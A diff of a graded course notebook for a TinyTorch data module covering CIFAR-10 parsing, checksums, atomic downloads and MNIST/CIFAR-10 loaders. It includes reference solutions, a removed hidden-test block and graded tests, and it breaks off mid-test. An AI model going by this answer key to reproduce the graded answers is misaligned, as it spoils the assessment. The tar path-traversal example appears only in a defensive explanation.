     Every record is 1 label byte (0-9) and 3 072 pixel bytes (red, green, blue planes of 32×32).
-
-    HINTS:
-    - The file size must be a positive multiple of CIFAR10_RECORD; raise ValueError otherwise.
-    - records = np.frombuffer(data, np.uint8).reshape(-1, CIFAR10_RECORD)
-    - Labels above 9 mean a wrong or corrupted file: ValueError.
-    - np.ascontiguousarray(records[:, 1:]).reshape(-1, 3, 32, 32) gives the images, contiguous
-      (so that gathering a batch later reads memory in order).
+    A file that is not a positive whole number of records, or holds a label above 9, raises
+    ValueError naming the file (and the impossible label). The images are C-contiguous, so that
+    gathering a batch later reads memory in order.
     """
     path = Path(path)
     data = path.read_bytes()
@@ -1547,6 +1251,11 @@ def read_cifar10_bin(path: str | Path) -> tuple[np.ndarray, np.ndarray]:
     images = np.ascontiguousarray(records[:, 1:]).reshape(-1, 3, 32, 32)
     return images, labels
     ### END SOLUTION
+
+# %% [markdown]
+# **Stuck?** (optional) `np.frombuffer(data, np.uint8).reshape(-1, CIFAR10_RECORD)` gives one
+# row per record: column 0 is the label, columns 1… the pixels, which `reshape(-1, 3, 32, 32)`
+# turns into images once `np.ascontiguousarray` has copied them out of the records.
 
 # %% nbgrader={"grade": true, "grade_id": "test-read-cifar", "locked": true, "points": 6, "schema_version": 3, "solution": false}
 def test_unit_read_cifar10_bin():
@@ -1581,474 +1290,94 @@ if __name__ == "__main__":
     test_unit_read_cifar10_bin()
 
 # %% [markdown]
-# ## 7. Trust, but verify: checksums
+# ## 6. Downloads you can trust (given code, read along)
 #
-# A **checksum** (a cryptographic hash of the file's bytes) is a fingerprint: change one bit
-# anywhere and the fingerprint changes completely. The dataset's authors (or a trusted
-# project) publish the fingerprint of each file; we store those values **in the code**, in one
-# registry, and compare before we parse anything:
+# `download_mnist()` and `download_cifar10()` find their files, or fetch them, before your
+# parsers see a byte. That machinery is not this module's subject, so it is given:
+# `tinytorch/data/_download.py` (about 270 lines, tested against a local HTTP server by
+# `tests/integration/test_downloads.py`). Read it beside this section; it follows four rules.
 #
-# ```
-#   CHECKSUMS["train-images-idx3-ubyte.gz"] = "sha256:440fcabf…3609"
+# 1. **The folder**: the `root` argument, else `$TINYTORCH_DATA`, else `~/.cache/tinytorch`
+#    (`data_root`), with the canonical file names under `mnist/` and `cifar10/`, so a folder
+#    filled by hand works.
+# 2. **Checksums before parsing**: `CHECKSUMS` maps each file name to its published fingerprint
+#    (`"sha256:440f…"`; sha1/md5 where that is what the authors published: they still catch
+#    every accidental corruption). A mismatch is a `ChecksumError` with both values; a local
+#    file that fails is reported, never parsed, never replaced (it may be yours). This catches
+#    cut-off downloads, HTML error pages served with status 200, disk errors, tampering.
+# 3. **Atomic writes**: a file appears under its real name only when complete and verified.
+#    It is streamed into `.name.<random>.part` in the *same folder* (hashed as it arrives, its
+#    length checked against `Content-Length`: a server that closes early makes `read()` return
+#    `b""`, not raise), then `fsync` and `os.replace`, which is atomic within one file system.
+# 4. **Mirrors, one clear error**: base URLs (`MIRRORS`) are tried in order; when all fail,
+#    `DownloadError` names the file, the folder searched (and why that one) and what every
+#    mirror answered. CIFAR-10's archive is opened member by member, each member verified and
+#    written under a name the code chooses (never `tar.extractall`: a member may be named
+#    `../../.bashrc`).
 #
-#   file on disk ──hash in 1 MiB chunks──► "sha256:440fcabf…3609"  ══ equal? ══► parse it
-#                                                                  ≠          ► ChecksumError: name,
-#                                                                               expected, actual
-# ```
-#
-# What a checksum catches: a download cut off halfway, a mirror that serves an HTML error page
-# with status 200, a disk error, a file replaced by a different version, a tampered file.
-#
-# The entries say which algorithm made them. We use what was published: sha256 for MNIST,
-# **sha1** for the CIFAR-10 binary files (the values MXNet pins) and **md5** for the CIFAR
-# archive (the value on the authors' page). md5 and sha1 are broken *against an attacker who
-# crafts collisions*, but they still detect every accidental corruption; prefer sha256 when you
-# publish data yourself. Hashing costs about as much as reading the file once (sha256 of the
-# 9.9 MB MNIST training images: about 20 ms here), and we hash in 1 MiB chunks as we read, and
-# while downloading, so the whole file never needs to be in memory for it.
+# The demonstration below serves a file from a local folder (`file://` URLs, which `urllib`
+# handles like `https://`) and shows rules 2–4 at work.
 
-# %% nbgrader={"grade": false, "grade_id": "checksums", "locked": false, "schema_version": 3, "solution": true}
-#| export
-# The one source of truth for what a good file is: file name -> "algorithm:hex digest".
-CHECKSUMS: dict[str, str] = {
-    # MNIST: the original idx files (sha256 of the published .gz files).
-    "train-images-idx3-ubyte.gz": "sha256:440fcabf73cc546fa21475e81ea370265605f56be210a4024d2ca8f203523609",
-    "train-labels-idx1-ubyte.gz": "sha256:3552534a0a558bbed6aed32b30c495cca23d567ec52cac8be1a0730e8010255c",
-    "t10k-images-idx3-ubyte.gz": "sha256:8d422c7b0a1c1c79245a5bcf07fe86e33eeafee792b84584aec276f5a2dbc4e6",
-    "t10k-labels-idx1-ubyte.gz": "sha256:f7ae60f92e00ec6debd23a6088c31dbd2371eca3ffa0defaefb259924204aec6",
-    # CIFAR-10, binary version: the archive (md5 from the authors' page) and the files inside it
-    # (sha1, as pinned by MXNet's gluon CIFAR10).
-    "cifar-10-binary.tar.gz": "md5:c32a1d4ab5d03f1284b67883e8d87530",
-    "data_batch_1.bin": "sha1:aadd24acce27caa71bf4b10992e9e7b2d74c2540",
-    "data_batch_2.bin": "sha1:c0ba65cce70568cd57b4e03e9ac8d2a5367c1795",
-    "data_batch_3.bin": "sha1:1dd00a74ab1d17a6e7d73e185b69dbf31242f295",
-    "data_batch_4.bin": "sha1:aab85764eb3584312d3c7f65fd2fd016e36a258e",
-    "data_batch_5.bin": "sha1:26e2849e66a845b7f1e4614ae70f4889ae604628",
-    "test_batch.bin": "sha1:67eb016db431130d61cd03c7ad570b013799c88c",
-}
-
-HASH_CHUNK = 1 << 20  # read and hash 1 MiB at a time: constant memory for any file size
-
-
-class ChecksumError(ValueError):
-    """A file whose checksum is not the published one. It is never parsed."""
-
-    def __init__(self, name: str, expected: str, actual: str, hint: str = "") -> None:
-        self.name, self.expected, self.actual = name, expected, actual
-        super().__init__(f"{name} failed its checksum: expected {expected}, got {actual}. "
-                         + (hint or "The file is corrupted or incomplete, so it was not used."))
-
-
-def _split_checksum(expected: str) -> tuple[str, str]:
-    """("sha256", "hexdigest") from "sha256:hexdigest", checking that hashlib knows the algorithm."""
-    algorithm, _, digest = expected.partition(":")
-    if not digest or algorithm not in hashlib.algorithms_available:
-        raise ValueError(f"A checksum must look like 'sha256:<hex digest>', got {expected!r}.")
-    return algorithm, digest.lower()
-
-
-def file_checksum(path: str | Path, algorithm: str = "sha256") -> str:
-    """The checksum of a file as "algorithm:hexdigest", reading it in HASH_CHUNK pieces.
-
-    HINT: hashlib.new(algorithm); update() it with each chunk of f.read(HASH_CHUNK).
-    """
-    ### BEGIN SOLUTION
-    hasher = hashlib.new(algorithm)
-    with open(path, "rb") as f:
-        while chunk := f.read(HASH_CHUNK):
-            hasher.update(chunk)
-    return f"{algorithm}:{hasher.hexdigest()}"
-    ### END SOLUTION
-
-
-def verify_checksum(path: str | Path, expected: str, hint: str = "") -> Path:
-    """Return `path` if its checksum is `expected` ("algorithm:hex"); raise ChecksumError otherwise."""
-    path = Path(path)
-    algorithm, digest = _split_checksum(expected)
-    ### BEGIN SOLUTION
-    actual = file_checksum(path, algorithm)
-    if actual != f"{algorithm}:{digest}":
-        raise ChecksumError(path.name, expected, actual, hint)
-    return path
-    ### END SOLUTION
-
-# %% nbgrader={"grade": true, "grade_id": "test-checksums", "locked": true, "points": 6, "schema_version": 3, "solution": false}
-def test_unit_checksums():
-    import pytest
-
-    data = np.random.default_rng(0).bytes(3 * HASH_CHUNK + 17)  # several chunks and a remainder
-    with tempfile.TemporaryDirectory() as tmp:
-        path = Path(tmp) / "blob.bin"
-        path.write_bytes(data)
-        assert file_checksum(path) == "sha256:" + hashlib.sha256(data).hexdigest()
-        assert file_checksum(path, "md5") == "md5:" + hashlib.md5(data).hexdigest()
-        good = "sha1:" + hashlib.sha1(data).hexdigest()
-        assert verify_checksum(path, good) == path
-        assert verify_checksum(path, good.upper().replace("SHA1", "sha1")) == path  # hex in any case
-
-        path.write_bytes(data[:-1] + b"\x00")  # one byte changed
-        with pytest.raises(ChecksumError, match="blob.bin failed its checksum: expected sha1:") as info:
-            verify_checksum(path, good)
-        assert info.value.expected == good and info.value.actual == file_checksum(path, "sha1")
-        with pytest.raises(ValueError, match="must look like 'sha256:<hex digest>'"):
-            verify_checksum(path, "deadbeef")
-    # Every registry entry names an algorithm hashlib has.
-    for expected in CHECKSUMS.values():
-        _split_checksum(expected)
-
-
-if __name__ == "__main__":
-    test_unit_checksums()
-
-# %% [markdown]
-# ## 8. Downloads that never leave a broken file
-#
-# Downloading goes wrong in more ways than it goes right: the server is down, returns 404, is
-# slow, closes the connection after 3 of 10 MB, or serves something else with status 200.
-# The program can also be killed halfway. The rule that makes all of these harmless:
-#
-# > **A file appears under its real name only when it is complete and verified.**
-#
-# ```
-#   for each mirror:
-#     urlopen(mirror + name) ───► .train-images-idx3-ubyte.gz.k3j9.part    (a temp file, same folder)
-#        stream 1 MiB chunks: write, hash, advance the progress bar
-#     received == Content-Length?  hash == CHECKSUMS[name]?
-#        yes ──► fsync, os.replace(temp, train-images-idx3-ubyte.gz)        atomic: all or nothing
-#        no  ──► delete the temp file, remember why, try the next mirror
-#   all mirrors failed ──► DownloadError: the file, the folder, every mirror with its reason
-# ```
-#
-# `os.replace` within one folder is **atomic** on POSIX and Windows: other programs see either
-# the old state (no file) or the complete new file, never a half-written one. The temp file
-# must be in the *same folder* (same file system), or the "rename" becomes a copy, which is not
-# atomic. A crash mid-download leaves at most a hidden `.part` file, never a corrupt
-# `train-images-idx3-ubyte.gz` that the next run would trust. (We create the temp file with
-# `open(name, "xb")` and a random name rather than `tempfile.mkstemp`: mkstemp makes the file
-# readable by its owner only, and `os.replace` would carry that into a course's shared data
-# folder, locking everyone else out.)
-#
-# Note the length check: if a server closes the connection early, Python's `http.client`
-# does not raise; `read()` simply returns `b""`, as at a normal end. Only comparing the bytes
-# received with `Content-Length` (and the checksum) exposes the truncation.
-#
-# **Mirrors.** Dataset hosts come and go: yann.lecun.com, the original MNIST host, now often
-# refuses downloads. So each dataset has a list of base URLs (`MIRRORS`), tried in order; tests
-# and users can pass their own with `mirrors=[...]`. `urllib` (standard library) handles
-# `http://`, `https://` and `file://`, which the tests below use.
-
-# %% nbgrader={"grade": false, "grade_id": "download-file", "locked": false, "schema_version": 3, "solution": true}
-#| export
-# Base URLs, tried in order; a file's URL is base + file name.
-MIRRORS: dict[str, list[str]] = {
-    "mnist": [
-        "https://ossci-datasets.s3.amazonaws.com/mnist/",       # torchvision's mirror
-        "https://storage.googleapis.com/cvdf-datasets/mnist/",  # TensorFlow's mirror
-    ],
-    "cifar10": [
-        "https://www.cs.toronto.edu/~kriz/",                    # the authors' page
-    ],
-}
-
-DOWNLOAD_TIMEOUT = 30.0  # seconds without data before a mirror counts as down
-
-
-class DownloadError(OSError):
-    """A file that could not be obtained. `failures` lists (url, reason) for every mirror tried."""
-
-    def __init__(self, message: str, failures: Sequence[tuple[str, str]] = ()) -> None:
-        super().__init__(message)
-        self.failures = list(failures)
-
-
-@contextmanager
-def _progress(label: str | None, total: int | None) -> Iterator[Callable[[int], None]]:
-    """A rich progress bar on stderr, as a function advance(n_bytes); silent when label is None."""
-    if label is None:
-        yield lambda n: None
-        return
-    try:
-        from rich.console import Console
-        from rich.progress import (BarColumn, DownloadColumn, Progress, TextColumn, TimeRemainingColumn,
-                                   TransferSpeedColumn)
-    except ImportError:  # rich is a TinyTorch dependency, but a bar is not worth a crash
-        yield lambda n: None
-        return
-    columns = (TextColumn("{task.description}"), BarColumn(), DownloadColumn(), TransferSpeedColumn(),
-               TimeRemainingColumn())
-    with Progress(*columns, console=Console(stderr=True)) as bar:
-        task = bar.add_task(label, total=total)
-        yield lambda n: bar.advance(task, n)
-
-
-def _temp_name(destination: Path) -> Path:
-    """A hidden name beside `destination` for a file in progress: .name.<random>.part"""
-    return destination.with_name(f".{destination.name}.{os.urandom(6).hex()}.part")
-
-
-def _write_verified(stream: Any, destination: Path, expected: str, total: int | None = None,
-                    label: str | None = None) -> Path:
-    """Copy `stream` to `destination` atomically, only if it is complete and its checksum is `expected`.
-
-    Writes to a temp file in the destination's folder, hashing as it goes; checks the length
-    (when `total` is known) and the checksum; then os.replace. On ANY failure (including
-    Ctrl-C) the temp file is deleted and nothing appears under `destination`.
-
-    HINTS:
-    - temp = _temp_name(destination) is a hidden, unused name in the same folder.
-    - with open(temp, "xb") as out, _progress(label, total) as advance: read stream.read(HASH_CHUNK)
-      until it returns b"", writing, hashing and advancing; then out.flush() and os.fsync(out.fileno()).
-      ("x" creates the file and fails if it exists; it gets the usual permissions, so a shared
-      data folder stays readable by everyone.)
-    - A short read: raise DownloadError(f"the connection closed after {received:,} of {total:,} bytes").
-    - A wrong checksum: raise ChecksumError(destination.name, expected, actual).
-    - try: ... os.replace(temp, destination) ... except BaseException: delete temp; raise
-    """
-    algorithm, digest = _split_checksum(expected)
-    hasher = hashlib.new(algorithm)
-    ### BEGIN SOLUTION
-    temp = _temp_name(destination)
-    received = 0
-    try:
-        with open(temp, "xb") as out, _progress(label, total) as advance:
-            while chunk := stream.read(HASH_CHUNK):
-                out.write(chunk)
-                hasher.update(chunk)
-                received += len(chunk)
-                advance(len(chunk))
-            out.flush()
-            os.fsync(out.fileno())  # the bytes are on disk before the name points at them
-        if total is not None and received != total:
-            raise DownloadError(f"the connection closed after {received:,} of {total:,} bytes")
-        actual = f"{algorithm}:{hasher.hexdigest()}"
-        if actual != f"{algorithm}:{digest}":
-            raise ChecksumError(destination.name, expected, actual)
-        os.replace(temp, destination)  # atomic: the complete, verified file or nothing
-    except BaseException:
-        Path(temp).unlink(missing_ok=True)
-        raise
-    return destination
-    ### END SOLUTION
-
-
-def _reason(error: BaseException) -> str:
-    reason = getattr(error, "reason", None)  # urllib wraps the real cause (refused, 404, DNS...)
-    return str(reason if reason is not None and not isinstance(error, ChecksumError) else error)
-
-
-def download_file(urls: Sequence[str], destination: str | Path, expected: str, progress: bool = True) -> Path:
-    """Download the first URL that works to `destination`, verified against `expected`, atomically.
-
-    Tries the URLs in order; a mirror that is down, returns an error, sends too few bytes or a
-    file with the wrong checksum is skipped. Raises DownloadError listing every URL and why it
-    failed; nothing is ever left under `destination` unless it is complete and verified.
-
-    HINTS:
-    - with urllib.request.urlopen(url, timeout=DOWNLOAD_TIMEOUT) as response: the Content-Length
-      header (may be missing) gives `total`; pass label=destination.name only if `progress`.
-    - Catch (OSError, ValueError, http.client.HTTPException) per URL: URLError, HTTPError and
-      DownloadError are OSErrors, ChecksumError is a ValueError. Record (url, _reason(e)).
-    """
-    destination = Path(destination)
-    failures: list[tuple[str, str]] = []
-    ### BEGIN SOLUTION
-    for url in urls:
-        try:
-            with urllib.request.urlopen(url, timeout=DOWNLOAD_TIMEOUT) as response:
-                length = response.headers.get("Content-Length")
-                total = int(length) if length is not None and length.isdigit() else None
-                return _write_verified(response, destination, expected, total,
-                                       label=destination.name if progress else None)
-        except (OSError, ValueError, http.client.HTTPException) as e:
-            failures.append((url, _reason(e)))
-    ### END SOLUTION
-    tried = "\n".join(f"  {url}: {why}" for url, why in failures) or "  (no URLs given)"
-    raise DownloadError(f"Could not download {destination.name}; every mirror failed:\n{tried}", failures)
-
-# %% nbgrader={"grade": true, "grade_id": "test-download-file", "locked": true, "points": 10, "schema_version": 3, "solution": false}
-def test_unit_download_file():
-    import pytest
-
-    data = np.random.default_rng(1).bytes(2 * HASH_CHUNK + 5)
+# %% nbgrader={"grade": false, "grade_id": "downloads-tour", "locked": false, "schema_version": 3, "solution": false}
+def tour_of_downloads() -> None:
+    """download_file, live: a dead mirror skipped, a wrong checksum refused, nothing half-written."""
+    data = np.random.default_rng(1).bytes(3_000_000)
     good = "sha256:" + hashlib.sha256(data).hexdigest()
     with tempfile.TemporaryDirectory() as tmp:
         tmp = Path(tmp)
         (tmp / "server").mkdir()
         (tmp / "server" / "blob.bin").write_bytes(data)
         (tmp / "cache").mkdir()
-        target = tmp / "cache" / "blob.bin"
-        dead = (tmp / "nowhere").as_uri() + "/blob.bin"
-        live = (tmp / "server").as_uri() + "/blob.bin"
-
-        # The first mirror is missing; the second one is used.
-        assert download_file([dead, live], target, good, progress=False) == target
-        assert target.read_bytes() == data
-        assert os.listdir(tmp / "cache") == ["blob.bin"]  # no temp files left behind
-
-        # A wrong checksum: an error naming it, and nothing under the real name.
-        target.unlink()
-        wrong = "sha256:" + "0" * 64
-        with pytest.raises(DownloadError, match="blob.bin failed its checksum") as info:
-            download_file([live], target, wrong, progress=False)
-        assert not target.exists() and os.listdir(tmp / "cache") == []
-        assert info.value.failures[0][0] == live
-
-        # Every mirror down: one error listing each URL.
-        with pytest.raises(DownloadError, match="every mirror failed") as info:
-            download_file([dead, dead + "2"], target, good, progress=False)
-        assert [url for url, _ in info.value.failures] == [dead, dead + "2"]
-        assert dead in str(info.value) and not target.exists()
-
-    ### BEGIN HIDDEN TESTS
-    # A short stream is caught by the length check, and the temp file is removed.
-    import io
-
-    with tempfile.TemporaryDirectory() as tmp:
-        target = Path(tmp) / "short.bin"
-        with pytest.raises(DownloadError, match="closed after") as err:
-            _write_verified(io.BytesIO(b"x" * 10), target, good, total=20)
-        assert "10 of 20" in str(err.value)
-        assert os.listdir(tmp) == []
-    ### END HIDDEN TESTS
+        dead, live = (tmp / "nowhere").as_uri() + "/blob.bin", (tmp / "server").as_uri() + "/blob.bin"
+        start = time.perf_counter()
+        path = download_file([dead, live], tmp / "cache" / "blob.bin", good, progress=False)
+        print(f"dead mirror skipped, {path.stat().st_size:,} bytes verified in "
+              f"{(time.perf_counter() - start) * 1e3:.1f} ms; cache folder holds {os.listdir(tmp / 'cache')}")
+        path.unlink()
+        try:
+            download_file([live], tmp / "cache" / "blob.bin", "sha256:" + "0" * 64, progress=False)
+        except DownloadError as e:
+            print(f"wrong checksum -> DownloadError; cache folder holds {os.listdir(tmp / 'cache')}")
+            print("   " + str(e).replace("\n", "\n   ")[:160] + "…")
 
 
 if __name__ == "__main__":
-    test_unit_download_file()
+    tour_of_downloads()
 
 # %% [markdown]
-# ## 9. MNIST and CIFAR-10
+# ### MNIST and CIFAR-10
 #
-# Everything comes together in two functions:
+# With the files found and verified, what is left is this module's subject: parse them with
+# your readers and serve them as `ImageDataset`s.
 #
 # ```python
-# train, test = download_mnist()      # ImageDatasets: 60 000 and 10 000 images (1, 28, 28)
-# train, test = download_cifar10()    # 50 000 and 10 000 images (3, 32, 32), 10 class names
+# train, test = download_mnist()      # 60 000 and 10 000 images (1, 28, 28), classes "0"…"9"
+# train, test = download_cifar10()    # 50 000 and 10 000 images (3, 32, 32), CIFAR10_CLASSES
 # ```
 #
-# **Where the files live.** The folder is, in order of preference: the `root` argument, the
-# environment variable `$TINYTORCH_DATA`, or `~/.cache/tinytorch`. Files keep their canonical
-# names under `mnist/` and `cifar10/`, so a folder filled by hand (or by another tool) works:
-#
-# ```
-#   $TINYTORCH_DATA/
-#   ├── mnist/     train-images-idx3-ubyte.gz  train-labels-idx1-ubyte.gz
-#   │              t10k-images-idx3-ubyte.gz   t10k-labels-idx1-ubyte.gz
-#   └── cifar10/   data_batch_1.bin … data_batch_5.bin  test_batch.bin
-#                  (cifar-10-binary.tar.gz, if it was downloaded: the six files are extracted from it)
-# ```
-#
-# **For each file:** present → verify its checksum (a mismatch is an error naming the file,
-# both checksums and the fix; the file is never parsed and never silently replaced, since it
-# may be yours) → absent → download it from the mirrors (verified while downloading) → if
-# that fails too, one error says which file is missing, which folder was searched (and why
-# that folder), and what every mirror answered. `download=False` never touches the network.
-#
-# **CIFAR-10** is published as one archive, `cifar-10-binary.tar.gz` (162 MB). When any of the
-# six `.bin` files is missing, the archive is obtained the same way (verified with its md5) and
-# only the six files we need are extracted, each streamed through `_write_verified` with its
-# own sha1. We never call `tar.extractall`: a crafted archive could name a member
-# `../../.bashrc`; we choose every destination name ourselves.
+# Your turn: the loop body of each. For MNIST, each split is an images file (magic 2051) and a
+# labels file (magic 2049); the counts must agree, images must be 28 × 28 and labels 0–9
+# (a `ValueError` otherwise), and images get their channel axis, `(N, 1, 28, 28)`. For CIFAR-10,
+# a split is several batch files whose images and labels are joined in order.
 
 # %% nbgrader={"grade": false, "grade_id": "download-datasets", "locked": false, "schema_version": 3, "solution": true}
 #| export
-MNIST_FILES = {  # split -> (images file, labels file)
-    "train": ("train-images-idx3-ubyte.gz", "train-labels-idx1-ubyte.gz"),
-    "test": ("t10k-images-idx3-ubyte.gz", "t10k-labels-idx1-ubyte.gz"),
-}
-CIFAR10_ARCHIVE = "cifar-10-binary.tar.gz"
-CIFAR10_FOLDER_IN_ARCHIVE = "cifar-10-batches-bin"
-CIFAR10_FILES = {
-    "train": [f"data_batch_{k}.bin" for k in range(1, 6)],
-    "test": ["test_batch.bin"],
-}
-
-
-def data_root(root: str | Path | None = None) -> Path:
-    """The data folder: `root` if given, else $TINYTORCH_DATA, else ~/.cache/tinytorch."""
-    if root is not None:
-        return Path(root).expanduser()
-    from_env = os.environ.get("TINYTORCH_DATA")
-    if from_env:
-        return Path(from_env).expanduser()
-    return Path.home() / ".cache" / "tinytorch"
-
-
-def _root_origin(root: str | Path | None) -> str:
-    if root is not None:
-        return "the root argument"
-    if os.environ.get("TINYTORCH_DATA"):
-        return "$TINYTORCH_DATA"
-    return "the default, because $TINYTORCH_DATA is not set"
-
-
-def _ensure_file(folder: Path, name: str, mirrors: Sequence[str], download: bool, progress: bool,
-                 origin: str) -> Path:
-    """`folder/name`, verified: checked if present, downloaded if absent, or a clear error."""
-    path = folder / name
-    if path.exists():
-        return verify_checksum(path, CHECKSUMS[name], hint=(
-            f"It was not used. If you put it there, check where it came from; otherwise delete "
-            f"{path} and run again to download it."))
-    failures: list[tuple[str, str]] = []
-    if download:
-        try:
-            folder.mkdir(parents=True, exist_ok=True)
-        except OSError as e:
-            raise DownloadError(f"Cannot create the data folder {folder} ({e}). Set $TINYTORCH_DATA "
-                                f"or pass root= to use another folder.") from None
-        urls = [base.rstrip("/") + "/" + name for base in mirrors]
-        try:
-            return download_file(urls, path, CHECKSUMS[name], progress)
-        except DownloadError as e:
-            failures = e.failures
-    tried = "\n".join(f"    {url}: {why}" for url, why in failures) or "    nothing (download=False)"
-    raise DownloadError(
-        f"{name} is missing and could not be downloaded.\n"
-        f"  looked in: {folder} (from {origin})\n"
-        f"  mirrors tried:\n{tried}\n"
-        f"Connect to the internet and run again, copy {name} into {folder}, or point "
-        f"$TINYTORCH_DATA (or root=) at a folder whose {folder.name}/ holds it.", failures)
-
-
-def _extract_cifar10(archive: Path, folder: Path, names: Sequence[str]) -> None:
-    """Stream the members `names` out of the verified archive, each verified, by names we choose."""
-    wanted = {f"{CIFAR10_FOLDER_IN_ARCHIVE}/{name}": name for name in names}
-    found: set[str] = set()
-    try:
-        with tarfile.open(archive, "r:gz") as tar:
-            for member in tar:
-                if member.name in wanted and member.isfile():
-                    with tar.extractfile(member) as stream:
-                        _write_verified(stream, folder / wanted[member.name], CHECKSUMS[wanted[member.name]],
-                                        total=member.size)
-                    found.add(wanted[member.name])
-    except (tarfile.TarError, EOFError, zlib.error) as e:
-        raise DownloadError(f"{archive} cannot be read as a tar.gz archive ({e}).") from None
-    missing = sorted(set(names) - found)
-    if missing:
-        raise DownloadError(f"{archive.name} has no {', '.join(missing)} under {CIFAR10_FOLDER_IN_ARCHIVE}/.")
-
-
 def download_mnist(root: str | Path | None = None, download: bool = True, progress: bool = True,
                    mirrors: Sequence[str] | None = None) -> tuple[ImageDataset, ImageDataset]:
     """MNIST as (train, test) ImageDatasets: 60 000 and 10 000 images (1, 28, 28), labels 0-9.
 
     Files: <root>/mnist/*.gz (root: argument, $TINYTORCH_DATA, ~/.cache/tinytorch), checked
     against CHECKSUMS and downloaded from `mirrors` (default MIRRORS["mnist"]) when missing.
-
-    HINTS (for each split):
-    - read_idx(images_path, magic=2051) is (N, 28, 28); read_idx(labels_path, magic=2049) is (N,).
-    - Check that the counts agree, that images are 28 × 28 and that labels are < 10 (ValueError).
-    - ImageDataset(images[:, None], labels, classes=[str(d) for d in range(10)], name=f"MNIST {split}")
+    Each ImageDataset has classes ["0", ..., "9"] and the name "MNIST train" / "MNIST test".
     """
-    folder, origin = data_root(root) / "mnist", _root_origin(root)
+    folder, origin = data_root(root) / "mnist", root_origin(root)
     bases = MIRRORS["mnist"] if mirrors is None else list(mirrors)
     splits = {}
     for split, names in MNIST_FILES.items():
-        paths = [_ensure_file(folder, name, bases, download, progress, origin) for name in names]
+        images_path, labels_path = [ensure_file(folder, name, bases, download, progress, origin) for name in names]
         ### BEGIN SOLUTION
-        images = read_idx(paths[0], magic=2051)
-        labels = read_idx(paths[1], magic=2049)
+        images = read_idx(images_path, magic=2051)
+        labels = read_idx(labels_path, magic=2049)
         if images.shape[1:] != (28, 28) or len(images) != len(labels):
             raise ValueError(f"MNIST {split}: images {images.shape} and labels {labels.shape} do not "
                              f"match (expected (N, 28, 28) and (N,)).")
@@ -2066,86 +1395,73 @@ def download_cifar10(root: str | Path | None = None, download: bool = True, prog
 
     Files: <root>/cifar10/{data_batch_1..5,test_batch}.bin; when any is missing they are
     extracted from cifar-10-binary.tar.gz (obtained like any other file). Every file is verified.
-
-    HINT: read_cifar10_bin each file of a split and np.concatenate the images and the labels.
+    Each ImageDataset has classes CIFAR10_CLASSES and the name "CIFAR-10 train" / "CIFAR-10 test".
     """
-    folder, origin = data_root(root) / "cifar10", _root_origin(root)
+    folder, origin = data_root(root) / "cifar10", root_origin(root)
     bases = MIRRORS["cifar10"] if mirrors is None else list(mirrors)
     names = [name for files in CIFAR10_FILES.values() for name in files]
     missing = [name for name in names if not (folder / name).exists()]
     if missing:
-        archive = _ensure_file(folder, CIFAR10_ARCHIVE, bases, download, progress, origin)
-        _extract_cifar10(archive, folder, missing)  # verified while extracting
+        archive = ensure_file(folder, CIFAR10_ARCHIVE, bases, download, progress, origin)
+        extract_cifar10(archive, folder, missing)  # verified while extracting
     for name in names:
         if name not in missing:
-            _ensure_file(folder, name, bases, download=False, progress=False, origin=origin)
+            ensure_file(folder, name, bases, download=False, progress=False, origin=origin)
     splits = {}
     for split, files in CIFAR10_FILES.items():
+        paths = [folder / name for name in files]
         ### BEGIN SOLUTION
-        parts = [read_cifar10_bin(folder / name) for name in files]
+        parts = [read_cifar10_bin(path) for path in paths]
         images = np.concatenate([images for images, _ in parts])
         labels = np.concatenate([labels for _, labels in parts])
         splits[split] = ImageDataset(images, labels, classes=CIFAR10_CLASSES, name=f"CIFAR-10 {split}")
         ### END SOLUTION
     return splits["train"], splits["test"]
 
-# %% nbgrader={"grade": true, "grade_id": "test-download-datasets", "locked": true, "points": 12, "schema_version": 3, "solution": false}
+# %% [markdown]
+# **Stuck?** (optional) `read_idx(path, magic=...)` returns `(N, 28, 28)`; `images[:, None]`
+# adds the channel axis without a copy. For CIFAR-10, `read_cifar10_bin` each path and
+# `np.concatenate` the images and the labels separately.
+
+# %% nbgrader={"grade": true, "grade_id": "test-download-datasets", "locked": true, "points": 10, "schema_version": 3, "solution": false}
 def test_unit_download_mnist_and_cifar10():
     import pytest
 
     rng = np.random.default_rng(0)
     mnist = {}
-    for split, (images_name, labels_name), n in [("train", MNIST_FILES["train"], 6), ("test", MNIST_FILES["test"], 3)]:
+    for (images_name, labels_name), n in [(MNIST_FILES["train"], 6), (MNIST_FILES["test"], 3)]:
         mnist[images_name] = gzip.compress(idx_bytes(rng.integers(0, 256, size=(n, 28, 28), dtype=np.uint8)))
         mnist[labels_name] = gzip.compress(idx_bytes(rng.integers(0, 10, size=n, dtype=np.uint8)))
     cifar = {name: cifar_bytes(rng.integers(0, 256, size=(2, 3, 32, 32)), rng.integers(0, 10, size=2))
              for files in CIFAR10_FILES.values() for name in files}
 
     with tempfile.TemporaryDirectory() as tmp, registered_checksums({**mnist, **cifar}):
-        tmp = Path(tmp)
-        server = tmp / "server"
-        server.mkdir()
-        for name, data in mnist.items():
-            (server / name).write_bytes(data)
+        root = Path(tmp)
+        for folder, files in (("mnist", mnist), ("cifar10", cifar)):
+            (root / folder).mkdir()
+            for name, data in files.items():
+                (root / folder / name).write_bytes(data)
 
-        # Nothing local, downloads off: the error names the file, the folder and its origin.
-        with pytest.raises(DownloadError) as err:
-            download_mnist(root=tmp / "data", download=False)
-        assert all(fact in str(err.value) for fact in
-                   ("train-images-idx3-ubyte.gz", str(tmp / "data" / "mnist"), "root argument"))
-        # Downloaded from the second mirror (the first is missing), then loaded.
-        mirrors = [(tmp / "down").as_uri(), server.as_uri()]
-        train, test = download_mnist(root=tmp / "data", mirrors=mirrors, progress=False)
+        train, test = download_mnist(root=root, download=False)
         assert len(train) == 6 and len(test) == 3
         assert train.data.shape == (6, 1, 28, 28) and train.data.dtype == np.uint8
         x, y = train[0]
         assert x.shape == (1, 28, 28) and x.dtype == np.float32 and 0 <= y <= 9
-        assert sorted(os.listdir(tmp / "data" / "mnist")) == sorted(mnist)
-        # Found through $TINYTORCH_DATA, with no mirrors at all.
-        saved = os.environ.get("TINYTORCH_DATA")
-        os.environ["TINYTORCH_DATA"] = str(tmp / "data")
-        try:
-            assert len(download_mnist(mirrors=[], progress=False)[0]) == 6
-        finally:
-            if saved is None:
-                del os.environ["TINYTORCH_DATA"]
-            else:
-                os.environ["TINYTORCH_DATA"] = saved
-        # A corrupted local file is reported, never parsed, never replaced.
-        (tmp / "data" / "mnist" / MNIST_FILES["test"][1]).write_bytes(b"not mnist")
-        with pytest.raises(ChecksumError, match="t10k-labels-idx1-ubyte.gz failed its checksum"):
